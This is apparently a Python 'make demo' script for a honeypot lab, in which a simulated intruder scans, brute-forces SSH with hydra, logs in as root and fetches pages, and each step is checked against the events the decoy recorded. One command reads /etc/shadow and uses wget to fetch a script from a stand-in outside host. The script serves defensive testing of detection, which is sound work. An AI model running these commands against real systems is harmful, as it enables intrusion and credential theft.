"""`make demo`: an intruder on the LAN, step by step, and what each step left in the database."""

from __future__ import annotations

import base64
import sys
from collections.abc import Callable
from typing import Any

from lab.attacker import Attacker
from lab.cluster import CommandError, events, get, last_event_id, wait_for

DECKY = "decky-01"
WIDTH = 110
GUESSES = "root:123456\nadmin:admin123\noracle:oracle\n"

Step = tuple[str, list[str], Callable[[Attacker, str], str], str, int]


def _scan(attacker: Attacker, address: str) -> str:
    out = attacker.do("nmap", "-sV", "-n", "-Pn", "-p", "22,80,443", address, timeout=200)
    return "\n".join(line for line in out.splitlines() if "/tcp" in line or line.startswith("MAC"))


def _guess(attacker: Attacker, address: str) -> str:
    attacker.do("sh", "-c", "cat > /tmp/guesses", stdin=GUESSES)
    out = attacker.do(
        "hydra", "-C", "/tmp/guesses", "-t", "1", "-I", f"ssh://{address}", check=False, timeout=120
    )
    return "\n".join(line for line in out.splitlines() if "password:" in line)


def _commands(attacker: Attacker, address: str) -> str:
    return attacker.shell(
        address,
        "root",
        "toor",
        "id; uname -a; cat /etc/shadow | head -3; wget -t 1 -T 3 http://198.51.100.7/x.sh",
    )


def _pages(attacker: Attacker, address: str) -> str:
    return attacker.do(
        "curl", "-s", "-o", "/dev/null", "-o", "/dev/null", "-w", "%{http_code} %{url_effective}\n",
        f"http://{address}/", f"http://{address}/.git/config",
    )  # fmt: skip


def _web_login(attacker: Attacker, address: str) -> str:
    return attacker.do(
        "curl", "-s", "-o", "/dev/null", "-w", "%{http_code} %{url_effective}\n",
        "-d", "log=admin&pwd=Summer2026!", f"http://{address}/wp-login.php",
    )  # fmt: skip


STEPS: list[Step] = [
    (
        "scan",
        ["nmap -sV -p 22,80,443"],
        _scan,
        "event_id in ('connect', 'client_version', 'http_request')",
        1,
    ),
    ("guess passwords", ["hydra -C guesses"], _guess, "event_id = 'credential' and service = 'ssh'", 3),
    (
        "log in as root, run commands",
        ["ssh root@…"],
        _commands,
        "event_id in ('session_opened', 'command')",
        2,
    ),
    ("fetch pages", ["curl / /.git/config"], _pages, "event_id = 'http_request'", 2),
    ("try a web login", ["curl -d log=…"], _web_login, "event_id = 'credential' and service = 'http'", 1),
]


def _describe(row: dict[str, Any]) -> str:
    fields = dict(row["fields"])
    if "secret_b64" in fields:
        secret = base64.b64decode(fields["secret_b64"]).decode("utf-8", "backslashreplace")
        what = f"{fields['principal']} / {secret} ({fields['outcome']})"
    else:
        what = " ".join(
            fields[k] for k in ("principal", "command", "method", "path", "version") if fields.get(k)
        )
    time = row["occurred_at"].split("+")[0][11:23]
    return f"{time:<12}  {row['service']:<5} {row['event_id']:<15} {row['src_ip']}  {what}"


def main() -> int:
    """Run every step; 1 when one of them left nothing in the database."""
    try:
        status = get(f"decky/{DECKY}")["status"]
    except CommandError as error:
        print(f"demo: {error}\nNo {DECKY}? Run `make up` first.", file=sys.stderr)
        return 1
    address = status["ip"]
    print(f"{DECKY} is {address} ({status['mac']}) on {status['node']}")
    missed = 0
    with Attacker() as attacker:
        print(f"the intruder is {attacker.address}\n")
        for number, (title, commands, act, where, least) in enumerate(STEPS, 1):
            since = last_event_id()
            print(f"{number}. {title}: {'; '.join(commands)}")
            for line in act(attacker, address).splitlines():
                print(f"   | {line}"[:WIDTH])
            try:
                wait_for(title, lambda: len(events(DECKY, where, since)) >= least, timeout=20)  # noqa: B023
            except TimeoutError as error:
                missed += 1
                print(f"   ! {error}")
            for row in events(DECKY, where, since)[:8]:
                print(f"   > {_describe(row)}"[:WIDTH])
            print()
    print(f"{len(STEPS) - missed} of {len(STEPS)} steps are in the database")
    return 1 if missed else 0


if __name__ == "__main__":
    sys.exit(main())
